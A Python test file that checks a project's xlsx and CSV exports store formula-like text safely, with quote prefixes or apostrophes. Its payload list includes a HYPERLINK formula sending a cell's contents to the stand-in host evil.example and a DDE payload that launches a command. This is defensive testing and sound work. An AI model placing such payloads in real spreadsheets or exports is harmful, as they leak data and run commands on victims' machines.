"""Formula injection: text that a spreadsheet could evaluate is written as text, in every export
(the per-export tests sit beside each app's export tests)."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from renzhi.core import spreadsheets

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def reopened(values: list) -> list:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("t")
    sheet.append(spreadsheets.xlsx_row(sheet, values))
    out = io.BytesIO()
    book.save(out)
    return list(load_workbook(io.BytesIO(out.getvalue())).active[1])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_text_stays_text_with_a_quote_prefix(payload):
    (cell,) = reopened([payload])
    assert cell.value == payload
    assert cell.data_type == "s" and cell.quotePrefix


def test_numbers_dates_and_plain_text_pass_through_unchanged():
    number, negative, text, empty = reopened([42, -5, "积水 = 严重", None])
    assert number.value == 42 and number.data_type == "n"
    assert negative.value == -5 and negative.data_type == "n"
    assert text.value == "积水 = 严重" and not text.quotePrefix
    assert empty.value is None


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_csv_value_that_looks_like_a_formula_gets_an_apostrophe(payload):
    assert spreadsheets.csv_value(payload) == "'" + payload
    assert spreadsheets.csv_value("plain") == "plain" and spreadsheets.csv_value(-5) == -5
